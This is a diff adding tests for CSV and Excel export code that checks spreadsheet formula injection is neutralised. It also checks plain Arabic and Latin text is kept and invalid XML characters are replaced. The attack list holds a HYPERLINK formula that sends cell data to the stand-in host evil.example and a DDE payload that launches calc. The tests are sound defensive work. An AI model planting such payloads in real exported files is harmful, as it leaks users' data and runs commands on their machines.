@@ -14,6 +14,72 @@ describe('CSV', () => {
     for (const formula of ['=1+1', '+966500000000', '-2', '@SUM(A1)', '\tx', '\rx']) expect(csvCell(formula).replace(/^"/, '').startsWith("'")).toBe(true);
   });
 
+  /**
+   * The cells a spreadsheet would see when it splits a line on `separator`, honouring quotes only at
+   * the start of a cell (as Excel does): how a file written with commas reads in a locale that
+   * separates with semicolons, and the other way round.
+   */
+  function cellsSplitOn(line: string, separator: ',' | ';'): string[] {
+    const cells: string[] = [];
+    let index = 0;
+    while (index <= line.length) {
+      let cell = '';
+      if (line[index] === '"') {
+        index += 1;
+        while (index < line.length && !(line[index] === '"' && line[index + 1] !== '"')) {
+          cell += line[index];
+          index += line[index] === '"' ? 2 : 1;
+        }
+        index += 1;
+      }
+      while (index < line.length && line[index] !== separator) cell += line[index++];
+      cells.push(cell);
+      index += 1;
+    }
+    return cells;
+  }
+
+  /** Every cell of every line (a line break inside a cell starts a new line for a reader that lost track of the quotes). */
+  const cellsOf = (file: string, separator: ',' | ';') => file.split(/\r\n|\r|\n/).flatMap((line) => cellsSplitOn(line, separator));
+  /** What a spreadsheet runs as a formula: a cell starting, after spaces or quotes, with = + - @ or a tab. */
+  const runsAsFormula = (cell: string) => /^[ "]*[=+\-@\t\r]/.test(cell);
+
+  it('neutralizes a formula hidden behind a separator, a quote or a line break inside a cell', async () => {
+    const attacks = [
+      'a;=HYPERLINK("http://evil.example/?"&A1,"انقر")',
+      'x,=1+1',
+      'x;+1',
+      'x; -2+3',
+      'x;@SUM(A1:A9)',
+      'x;"=1+1',
+      'x;\t=1',
+      'سطر\n=cmd|\' /C calc\'!A0',
+      'x\r@SUM(1)',
+      ';;=1',
+      'x;"";=2',
+    ];
+    for (const attack of attacks) {
+      const sink = csvSink();
+      sink.startTable('t', [
+        { header: 'أ', kind: 'text', width: 10 },
+        { header: 'ب', kind: 'text', width: 10 },
+      ]);
+      sink.addRow(['قبل', attack]);
+      sink.addRow([attack, 'بعد']);
+      const file = (await sink.finish()).toString('utf8').replace(/^\ufeff/, '');
+      for (const separator of [',', ';'] as const) {
+        expect(cellsOf(file, separator).filter(runsAsFormula), `${JSON.stringify(attack)} split on ${separator}`).toEqual([]);
+      }
+    }
+  });
+
+  it('leaves text without a hidden formula as it was typed', () => {
+    for (const plain of ['محمد; أحمد', 'a,b;c', '2026-11-22', 'رقم 45/ق/1448', 'x - y', 'A-1;B-2']) {
+      const cell = csvCell(plain);
+      expect(cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell).toBe(plain);
+    }
+  });
+
   it('writes one table with a byte-order mark, numbers as numbers and instants in Riyadh time', async () => {
     const sink = csvSink();
     sink.startTable('t', [
@@ -58,6 +124,17 @@ describe('Excel sheet names', () => {
 });
 
 describe('Excel tables', () => {
+  it('opens even when a text holds what XML cannot (U+FFFE, U+FFFF), as text kept before the contract refused it may', async () => {
+    const sink = xlsxSink({ rightToLeft: true });
+    sink.startTable('t', [{ header: 'h', kind: 'text', width: 10 }]);
+    sink.addRow(['x\uFFFFy\uFFFEz']);
+    sink.addRow(['\u{1F600} تم']);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load((await sink.finish()) as unknown as ArrayBuffer);
+    expect(workbook.worksheets[0]!.getRow(2).getCell(1).value).toBe('x\uFFFDy\uFFFDz');
+    expect(workbook.worksheets[0]!.getRow(3).getCell(1).value).toBe('\u{1F600} تم');
+  });
+
   it('writes a sheet without a header row, headings and headers as text, a date in a text column, a breakdown set in', async () => {
     const sink = xlsxSink({ rightToLeft: true });
     sink.startTable('عن الملف', [
